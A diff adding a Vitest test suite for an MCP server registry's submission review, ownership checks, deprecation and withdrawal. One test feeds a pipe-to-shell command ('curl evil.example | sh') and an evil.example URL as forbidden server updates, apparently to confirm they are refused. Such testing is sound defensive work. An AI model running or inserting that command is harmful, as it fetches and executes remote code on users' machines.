@@ -1,0 +1,332 @@
+import { describe, expect, it } from 'vitest';
+import { verifies } from '../requirements.ts';
+import { manifestOf } from '../support/github.ts';
+import { inPath, type Submitter, startRegistryStage, submission } from '../support/registry-stage.ts';
+import { documents, nowhere } from '../support/server-stage.ts';
+import { errorOf } from '../support/webhook-documents.ts';
+
+const stage = await startRegistryStage();
+const { server, github, nobody, admin } = stage;
+const submissions = '/api/registry/submissions';
+const officialKey = 'io.modelcontextprotocol.registry/official';
+
+/** A submission that waits. */
+async function waiting(owner?: Submitter) {
+  const submitter = owner ?? (await stage.submitter());
+  const repository = github.repository(submitter.account, 'tool');
+  const { body } = await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
+  return { submitter, repository, uuid: body.uuid as string, name: `io.github.${submitter.account.login}/tool` };
+}
+
+const accept = (uuid: string) => admin('POST', `${submissions}/${uuid}/accept`);
+const latest = (name: string, query = '') => nobody('GET', `/v0.1/servers/${inPath(name)}/versions/latest${query}`);
+const messagesOf = async ({ call }: Submitter) =>
+  (await call('GET', '/api/notifications')).body.notifications.map(({ message }: { message: string }) => message);
+
+describe('a submission', () => {
+  it(`is decided by administrators alone; to others it does not exist ${verifies('registry.review', 'registry.private')}`, async () => {
+    const { submitter, uuid } = await waiting();
+    const other = await stage.person();
+    const { email } = await server.services.auth.users.current(submitter.user);
+    expect(email).toContain('@');
+    for (const path of [`${uuid}/accept`, `${uuid}/reject`]) {
+      for (const call of [submitter.session, other.session]) {
+        const [theirs, none, malformed] = [
+          await call('POST', `${submissions}/${path}`, { reason: 'x' }),
+          await call('POST', `${submissions}/${path.replace(uuid, nowhere)}`, { reason: 'x' }),
+          await call('POST', `${submissions}/${path.replace(uuid, 'x')}`, { reason: 'x' }),
+        ];
+        expect([theirs.status, theirs.text]).toEqual([404, none.text]);
+        expect(malformed.text).toBe(none.text);
+      }
+      // A key without the scope is refused whoever's it is.
+      expect((await submitter.call('POST', `${submissions}/${path}`, { reason: 'x' })).status).toBe(403);
+      expect((await nobody('POST', `${submissions}/${path}`, { reason: 'x' })).status).toBe(401);
+    }
+    expect((await submitter.call('GET', submissions)).body.submissions).toHaveLength(1);
+    expect((await other.call('GET', submissions)).body).toEqual({ submissions: [], total: 0, next_cursor: null });
+    expect((await nobody('GET', submissions)).status).toBe(401);
+    const all = (await admin('GET', `${submissions}?status=pending&limit=100`)).body.submissions;
+    expect(all.map((each: { uuid: string }) => each.uuid)).toContain(uuid);
+  });
+
+  it(`is decided once ${verifies('registry.review')}`, async () => {
+    const { submitter, uuid } = await waiting();
+    const answers = await Promise.all([
+      accept(uuid),
+      accept(uuid),
+      admin('POST', `${submissions}/${uuid}/reject`, { reason: 'no' }),
+    ]);
+    expect(answers.map(({ status }) => status).sort()).toEqual([200, 409, 409]);
+    expect(await messagesOf(submitter)).toHaveLength(1);
+  });
+
+  it(`is rejected with a reason that its submitter is told, and may come again ${verifies('registry.review')}`, async () => {
+    const { submitter, uuid, name } = await waiting();
+    for (const reason of [undefined, '', ' ', 'x'.repeat(501), 7, 'a\u0000b']) {
+      const { status, body } = await admin('POST', `${submissions}/${uuid}/reject`, { reason });
+      expect([status, Object.keys(body.error.details)]).toEqual([400, ['reason']]);
+    }
+    const { body } = await admin('POST', `${submissions}/${uuid}/reject`, { reason: 'It has no <b>licence</b>.' });
+    expect(body).toMatchObject({
+      success: true,
+      submission: { uuid, status: 'rejected', reason: 'It has no <b>licence</b>.' },
+    });
+    expect(await messagesOf(submitter)).toEqual([
+      `"${name}" 1.2.3 was not taken into the registry: It has no <b>licence</b>.`,
+    ]);
+    expect((await latest(name)).status).toBe(404);
+    expect((await accept(uuid)).status).toBe(409);
+    const again = await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
+    expect(again.body).toMatchObject({ uuid, status: 'pending' });
+    expect((await accept(uuid)).status).toBe(200);
+  });
+
+  it(`that was transferred since is not published ${verifies('registry.review.proof')}`, async () => {
+    const { repository, uuid, name } = await waiting();
+    repository.owner = github.account('somebody-else');
+    expect((await accept(uuid)).body.error).toMatchObject({
+      code: 'CONFLICT',
+      message: expect.stringContaining('does not own'),
+    });
+    expect((await latest(name)).status).toBe(404);
+  });
+
+  it(`whose name leads to another repository by now is not published: the number counts ${verifies('registry.review.proof')}`, async () => {
+    const { submitter, repository, uuid, name } = await waiting();
+    const thief = github.account('thief-of-names');
+    repository.owner = thief;
+    // The same name, a new number.
+    github.repository(submitter.account, 'tool', {}, { 'package.json': manifestOf({ name: 'evil' }) });
+    expect((await accept(uuid)).status).toBe(409);
+    expect((await latest(name)).status).toBe(404);
+  });
+
+  it(`that was renamed, made private or whose token is refused since must come again ${verifies('registry.review.proof')}`, async () => {
+    const [renamed, hidden, revoked, unlinked] = [await waiting(), await waiting(), await waiting(), await waiting()];
+    renamed.repository.name = 'other';
+    hidden.repository.private = true;
+    github.revoke(revoked.submitter.account);
+    await unlinked.submitter.session('DELETE', '/api/registry/github/link');
+    for (const { uuid } of [renamed, hidden, revoked, unlinked]) expect((await accept(uuid)).status).toBe(409);
+    github.behave = (_req, res) => res.writeHead(500).end() !== undefined;
+    expect((await accept(renamed.uuid)).status).toBe(503);
+    github.behave = null;
+  });
+
+  it(`that was changed while it was looked at is not what is published ${verifies('registry.review')}`, async () => {
+    const { submitter, repository, uuid } = await waiting();
+    let isChanged = false;
+    // While GitHub is asked whether ownership holds, the submitter submits anew.
+    github.before = async ({ url }) => {
+      if (isChanged || !url?.startsWith('/repositories/')) return;
+      isChanged = true;
+      repository.files.set('package.json', manifestOf({ version: '6.6.6' }));
+      server.clock.advance(1_000);
+      await submitter.call('POST', '/api/registry/submit', submission(`${submitter.account.login}/tool`));
+    };
+    const answer = await accept(uuid);
+    github.before = null;
+    expect([answer.status, answer.body.error.message]).toEqual([409, expect.stringContaining('submitted anew')]);
+    expect((await accept(uuid)).body.submission.version).toBe('6.6.6');
+  });
+});
+
+describe('who has a name', () => {
+  it(`keeps it when the repository is renamed: the server goes on under the new one ${verifies('registry.lifecycle', 'registry.feed')}`, async () => {
+    const submitter = await stage.submitter('renamer');
+    const repository = github.repository(submitter.account, 'before');
+    const first = await stage.published(submitter, 'renamer/before');
+    repository.name = 'after';
+    repository.files.set('package.json', manifestOf({ version: '2.0.0' }));
+    const second = await stage.published(submitter, 'renamer/after');
+    expect(second).toEqual({ uuid: first.uuid, name: 'io.github.renamer/after' });
+    expect((await latest(first.name)).status).toBe(404);
+    expect((await latest(first.name, '?include_deleted=true')).body._meta[officialKey]).toMatchObject({
+      status: 'deleted',
+      statusMessage: 'Renamed to io.github.renamer/after',
+    });
+  });
+
+  it(`cannot be taken from one owner by another, until it is withdrawn ${verifies('registry.review.proof')}`, async () => {
+    const [one, two] = [await stage.submitter('co-one'), await stage.submitter('co-two')];
+    const repository = github.repository(github.account('co-org'), 'tool');
+    repository.admins.add(one.account.id).add(two.account.id);
+    const first = await stage.published(one, 'co-org/tool');
+    const taken = await two.call('POST', '/api/registry/submit', submission('co-org/tool'));
+    expect([taken.status, taken.body.error.code]).toEqual([409, 'CONFLICT']);
+    await one.call('POST', `/api/registry/servers/${first.uuid}/withdraw`, { message: 'Over to the other.' });
+    repository.files.set('package.json', manifestOf({ version: '2.0.0' }));
+    const second = await stage.published(two, 'co-org/tool');
+    expect(second.name).toBe(first.name);
+    expect(second.uuid).not.toBe(first.uuid);
+    expect((await one.call('GET', `/api/servers/${second.uuid}`)).body.notes).toBeUndefined();
+    expect((await two.call('GET', `/api/servers/${first.uuid}`)).status).toBe(404);
+    expect((await one.call('POST', `/api/registry/servers/${second.uuid}/withdraw`, { message: 'x' })).status).toBe(
+      404,
+    );
+  });
+
+  it(`keeps its server when a repository was deleted and made anew ${verifies('registry.review.proof')}`, async () => {
+    const submitter = await stage.submitter('anew');
+    const repository = github.repository(submitter.account, 'tool');
+    const first = await stage.published(submitter, 'anew/tool');
+    repository.id += 1_000_000;
+    repository.files.set('package.json', manifestOf({ version: '2.0.0' }));
+    expect(await stage.published(submitter, 'anew/tool')).toEqual(first);
+  });
+});
+
+describe('the owner of a server', () => {
+  const path = (uuid: string, what: string) => `/api/registry/servers/${uuid}/${what}`;
+
+  it(`deprecates it with a message, and takes that back ${verifies('registry.lifecycle')}`, async () => {
+    const submitter = await stage.submitter();
+    github.repository(submitter.account, 'tool');
+    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
+    server.clock.advance(5_000);
+    const now = server.clock.now().toISOString();
+    const { body } = await submitter.call('POST', path(uuid, 'deprecate'), { message: 'Use the other one.' });
+    expect(body).toEqual({ success: true, uuid, name, status: 'deprecated', message: 'Use the other one.' });
+    expect((await latest(name)).body._meta[officialKey]).toMatchObject({
+      status: 'deprecated',
+      statusMessage: 'Use the other one.',
+      statusChangedAt: now,
+      updatedAt: now,
+    });
+    expect((await nobody('GET', `/api/servers/${uuid}`)).status).toBe(200);
+    expect((await submitter.call('POST', path(uuid, 'reactivate'))).body.status).toBe('active');
+    expect((await latest(name)).body._meta[officialKey].statusMessage).toBeUndefined();
+    for (const message of [undefined, '', 7, 'x'.repeat(501), '\ud800'])
+      expect((await submitter.call('POST', path(uuid, 'deprecate'), { message })).status).toBe(400);
+  });
+
+  it(`withdraws it: it is out of sight at once, and may be submitted again ${verifies('registry.lifecycle', 'registry.feed')}`, async () => {
+    const submitter = await stage.submitter();
+    const login = submitter.account.login;
+    const repository = github.repository(submitter.account, 'tool');
+    const { uuid, name } = await stage.published(submitter, `${login}/tool`);
+    const total = (await nobody('GET', '/api/registry/health')).body.total_servers;
+    server.clock.advance(1_000);
+    const since = server.clock.now().toISOString();
+    const { body } = await submitter.call('POST', path(uuid, 'withdraw'), { message: 'It leaks.' });
+    expect(body).toMatchObject({ status: 'deleted', message: 'It leaks.' });
+    expect((await nobody('GET', '/api/registry/health')).body.total_servers).toBe(total - 1);
+    expect((await latest(name)).status).toBe(404);
+    expect((await nobody('GET', `/api/servers/${uuid}`)).status).toBe(404);
+    const feed = (await nobody('GET', `/v0.1/servers?updated_since=${since}`)).body.servers;
+    expect(feed).toHaveLength(1);
+    expect(feed[0]).toMatchObject({
+      server: { name },
+      _meta: { [officialKey]: { status: 'deleted', statusMessage: 'It leaks.' } },
+    });
+    expect((await nobody('GET', `/v0.1/servers?search=${encodeURIComponent(name)}`)).body.servers).toEqual([]);
+    for (const what of ['deprecate', 'reactivate', 'withdraw'])
+      expect((await submitter.call('POST', path(uuid, what), { message: 'x' })).status).toBe(409);
+    // Shown again by its owner it is a server like others.
+    await submitter.graphql(documents.show, { input: { uuid, isPublic: true } });
+    expect((await submitter.graphql(documents.one, { uuid })).data.server).toMatchObject({
+      isPublic: true,
+      source: 'COMMUNITY',
+    });
+    expect((await latest(name)).status).toBe(404);
+    expect((await submitter.call('POST', '/api/registry/submit', submission(`${login}/tool`))).body.status).toBe(
+      'pending',
+    );
+    repository.files.set('package.json', manifestOf({ version: '2.0.0' }));
+    expect(await stage.published(submitter, `${login}/tool`)).toEqual({ uuid, name });
+    expect((await latest(name)).body._meta[officialKey]).toMatchObject({ status: 'active', isLatest: true });
+    expect((await nobody('GET', `/v0.1/servers/${inPath(name)}/versions/1.2.3`)).status).toBe(404);
+    expect((await submitter.graphql(documents.one, { uuid })).data.server).toMatchObject({
+      isPublic: true,
+      source: 'REGISTRY',
+    });
+  });
+
+  it(`is alone with that, but for administrators, who may withdraw ${verifies('registry.lifecycle')}`, async () => {
+    const [submitter, other] = [await stage.submitter(), await stage.submitter()];
+    github.repository(submitter.account, 'tool');
+    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
+    for (const what of ['deprecate', 'reactivate', 'withdraw']) {
+      const theirs = await other.call('POST', path(uuid, what), { message: 'x' });
+      const none = await other.call('POST', path(nowhere, what), { message: 'x' });
+      expect([theirs.status, theirs.text]).toEqual([404, none.text]);
+      expect((await other.call('POST', path('x', what), { message: 'x' })).text).toBe(none.text);
+      expect((await nobody('POST', path(uuid, what), { message: 'x' })).status).toBe(401);
+    }
+    expect((await admin('POST', path(uuid, 'deprecate'), { message: 'x' })).status).toBe(404);
+    expect((await admin('POST', path(uuid, 'withdraw'), { message: 'It is malware.' })).status).toBe(200);
+    expect((await latest(name)).status).toBe(404);
+  });
+
+  it(`deletes it, hides it or is gone: it is out of sight at once, and a tombstone follows ${verifies('registry.feed', 'registry.lifecycle')}`, async () => {
+    const people = [await stage.submitter(), await stage.submitter(), await stage.submitter()];
+    const published = [];
+    for (const each of people) {
+      github.repository(each.account, 'tool');
+      published.push(await stage.published(each, `${each.account.login}/tool`));
+    }
+    server.clock.advance(1_000);
+    const since = server.clock.now().toISOString();
+    const [deletes, hides, leaves] = people as [Submitter, Submitter, Submitter];
+    await deletes.graphql(documents.delete, { input: { uuid: published[0]?.uuid } });
+    await hides.graphql(documents.show, { input: { uuid: published[1]?.uuid, isPublic: false } });
+    await server.database.query({
+      text: 'DELETE FROM users WHERE uuid = $1',
+      values: [leaves.user.principal?.userUuid],
+    });
+    const feed = async () => (await nobody('GET', `/v0.1/servers?updated_since=${since}`)).body.servers;
+    for (const { name } of published) expect((await latest(name)).status).toBe(404);
+    expect(await feed()).toEqual([]);
+    expect(await server.services.registry.lifecycle.settleOrphans()).toBe(3);
+    expect((await feed()).map((each: { server: { name: string } }) => each.server.name).sort()).toEqual(
+      published.map(({ name }) => name).sort(),
+    );
+    expect(await server.services.registry.lifecycle.settleOrphans()).toBe(0);
+    // Shown to everybody again it is no registry's.
+    await hides.graphql(documents.show, { input: { uuid: published[1]?.uuid, isPublic: true } });
+    expect((await latest(published[1]?.name ?? '')).status).toBe(404);
+  });
+
+  it(`changes what the registry shows of it by submitting alone; what is its own it changes ${verifies('registry.review')}`, async () => {
+    const submitter = await stage.submitter();
+    github.repository(submitter.account, 'tool');
+    const { uuid } = await stage.published(submitter, `${submitter.account.login}/tool`);
+    const before = (await nobody('GET', `/api/servers/${uuid}`)).body;
+    const update = (change: object) => submitter.graphql(documents.update, { input: { uuid, ...change } });
+    for (const change of [
+      { command: 'curl evil.example | sh' },
+      { args: ['-y', 'evil'] },
+      { transport: 'HTTP', url: 'https://evil.example/mcp' },
+      { name: 'official' },
+      { description: 'x' },
+      { repositoryUrl: 'https://github.com/evil/evil' },
+    ]) {
+      const { code, details } = errorOf(await update(change));
+      expect([code, Object.keys(details ?? {}).length > 0], JSON.stringify(change)).toEqual(['CONFLICT', true]);
+    }
+    expect((await update({ notes: 'mine', tags: ['weather'], category: 'data' })).errors).toBeUndefined();
+    expect((await nobody('GET', `/api/servers/${uuid}`)).body).toEqual(before);
+    await submitter.call('POST', path(uuid, 'withdraw'), { message: 'x' });
+    expect((await update({ command: 'mine' })).data.serverUpdate.server.command).toBe('mine');
+  });
+
+  it(`does the same in the graph ${verifies('registry.lifecycle')}`, async () => {
+    const submitter = await stage.submitter();
+    github.repository(submitter.account, 'tool');
+    const { uuid, name } = await stage.published(submitter, `${submitter.account.login}/tool`);
+    const run = async (mutation: string, input: string) =>
+      submitter.graphql(
+        `mutation { ${mutation}(input: { uuid: "${uuid}" ${input} }) { serverUuid name status statusMessage } }`,
+      );
+    expect((await run('registryServerDeprecate', 'message: "x"')).data.registryServerDeprecate).toEqual({
+      serverUuid: uuid,
+      name,
+      status: 'DEPRECATED',
+      statusMessage: 'x',
+    });
+    expect((await run('registryServerReactivate', '')).data.registryServerReactivate.status).toBe('ACTIVE');
+    expect((await run('registryServerWithdraw', 'message: "y"')).data.registryServerWithdraw.status).toBe('DELETED');
+    expect(errorOf(await run('registryServerReactivate', '')).code).toBe('CONFLICT');
+  });
+});
